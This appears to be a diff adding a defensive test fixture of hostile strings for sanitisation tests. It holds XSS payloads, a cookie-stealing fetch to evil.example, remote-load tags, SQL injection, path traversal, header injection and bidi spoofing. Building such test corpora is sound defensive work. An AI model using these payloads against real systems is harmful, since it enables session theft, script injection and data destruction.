@@ -1,0 +1,150 @@
+import { TEXT_MAX_LENGTH } from "../../../src/core/limits.ts";
+
+/** What HTML, scripts and styles would run: each sets `__ran` or asks another host if somebody lets it. */
+const EXFILTRATE = "fetch('https://evil.example/'+document.cookie)";
+
+const MARKUP = [
+  "<script>__ran=1</script>",
+  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>__ran=1</scr</script>ipt>",
+  "</script><script>__ran=1</script>",
+  "<img src=x onerror=__ran=1>",
+  '<img src="x" onerror="alert(1)">',
+  "<img src=https://evil.example/pixel.png>",
+  '"><img src=x onerror=__ran=1>',
+  "'><img src=x onerror=__ran=1>",
+  "` onmouseover=__ran=1 `",
+  '" autofocus onfocus="__ran=1',
+  "<svg onload=__ran=1>",
+  "<svg/onload=alert`1`>",
+  "<svg><script>__ran=1</script></svg>",
+  '<svg><use href="https://evil.example/a.svg#b"/></svg>',
+  '<iframe src="javascript:parent.__ran=1"></iframe>',
+  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
+  '<iframe src="https://evil.example/"></iframe>',
+  "<object data=https://evil.example/x.swf></object>",
+  "<embed src=https://evil.example/x>",
+  "<video src=x onerror=__ran=1 autoplay>",
+  "<audio src=x onerror=__ran=1>",
+  "<body onload=__ran=1>",
+  "<details open ontoggle=__ran=1>x</details>",
+  "<input autofocus onfocus=__ran=1>",
+  "<marquee onstart=__ran=1>x</marquee>",
+  '<math><mtext><img src=x onerror="__ran=1"></mtext></math>',
+  "<base href=https://evil.example/>",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<form action="https://evil.example/"><button>Send</button></form>',
+  "<style>*{display:none}</style>",
+  "<div style=position:fixed;inset:0;background:red>x</div>",
+  "</p></li></ol></div><h1>Out</h1>",
+  "<!-- a comment that never ends",
+  "<![CDATA[ x ]]>",
+  "&lt;b&gt;&amp;&nbsp;&#x3C;script&#x3E;",
+  "<b>bold</b>",
+  `<a href="x" onclick="${EXFILTRATE}">here</a>`,
+];
+
+const ADDRESSES = [
+  "javascript:__ran=1",
+  "JaVaScRiPt:__ran=1//https://example.com/",
+  "java\tscript:__ran=1",
+  "data:text/html,<script>__ran=1</script>",
+  "vbscript:msgbox(1)",
+  "https://example.com/\"onmouseover='__ran=1'",
+  "https://example.com/<script>__ran=1</script>",
+  "http://user:password@evil.example:8080/#a",
+  "https://[::1",
+  "file:///etc/passwd",
+  "//evil.example/x",
+  "[here](javascript:__ran=1)",
+  "![](https://evil.example/pixel.png)",
+];
+
+const TEMPLATES = [
+  "{{constructor.constructor('__ran=1')()}}",
+  "$" + "{globalThis.__ran=1}",
+  "#{7*7}",
+  "<%= __ran=1 %>",
+  "{{7*7}}",
+  "{__html: '<img src=x onerror=__ran=1>'}",
+  '{"type":"text","text":"x"}',
+  '{"type":"error","code":"internal"}',
+  '{"dangerouslySetInnerHTML":{"__html":"<b>x</b>"}}',
+  "*{background:url(https://evil.example/x.png)}",
+  "</style><style>body{visibility:hidden}",
+  "'; DROP TABLE messages; --",
+  "%s %d %n $1 $& \\0 \\u003cscript\\u003e",
+  "../../../../etc/passwd",
+  "a\r\nSet-Cookie: x=1\r\n\r\n<script>__ran=1</script>",
+];
+
+const LITERALS = [
+  "null",
+  "undefined",
+  "NaN",
+  "true",
+  "0",
+  "-0",
+  "[object Object]",
+  "__proto__",
+  "constructor",
+  "toString",
+  "\"'`´’“”«»\\",
+];
+
+const DIRECTIONS = [
+  "\u202Egnp.exe\u202C",
+  "\u202Ethis never ends",
+  "\u2067an isolate that never ends",
+  "\u202B\u202A\u202D\u202E\u2066\u2067\u2068",
+  "\u2069\u2069\u202C\u202C closes what it did not open",
+  "\u200Fשלום\u200E hello",
+  "مرحبا <b>بالعالم</b> https://example.com/مرحبا",
+  "English then עברית then 123 then العربية",
+];
+
+const SHAPES = [
+  "a".repeat(TEXT_MAX_LENGTH),
+  "W".repeat(300),
+  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(200),
+  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
+  "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}\u{1F9D1}\u{1F3FD}\u200D\u{1F680}",
+  `Z${"\u0300\u0316\u0489".repeat(100)}algo`,
+  "x\u0489".repeat(500),
+  "\uFDFD".repeat(40),
+  "\u{12031}\u{12219}\u{1242B}".repeat(30),
+  "Donaudampfschifffahrtsgesellschaftskapitänskajütenschlüssel".repeat(5),
+  "no\u00A0break\u00A0".repeat(100),
+  "no\u2060break\u2011".repeat(100),
+  "_".repeat(500),
+  `https://example.com/${"a".repeat(2_000)}`,
+  `${"line\n".repeat(60)}end`,
+  "\t\ttabs\t\tand   spaces   ",
+  "漢字".repeat(300),
+];
+
+const INVISIBLE = [
+  "\u200B",
+  "\u2060\u2060",
+  "\u00AD",
+  "\u3164",
+  "\u2800",
+  "\u0000",
+  "\u0007\u001B[31m\u0008",
+  "\uD800",
+  "a\uDC00b\uD83D",
+  "\uFFFE\uFFFF",
+  "\u{E0001}\u{E007F}",
+];
+
+/** Texts that break what is careless with them: 114 of them, each of 1 to 10,000 characters, none blank. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...MARKUP,
+  ...ADDRESSES,
+  ...TEMPLATES,
+  ...LITERALS,
+  ...DIRECTIONS,
+  ...SHAPES,
+  ...INVISIBLE,
+];
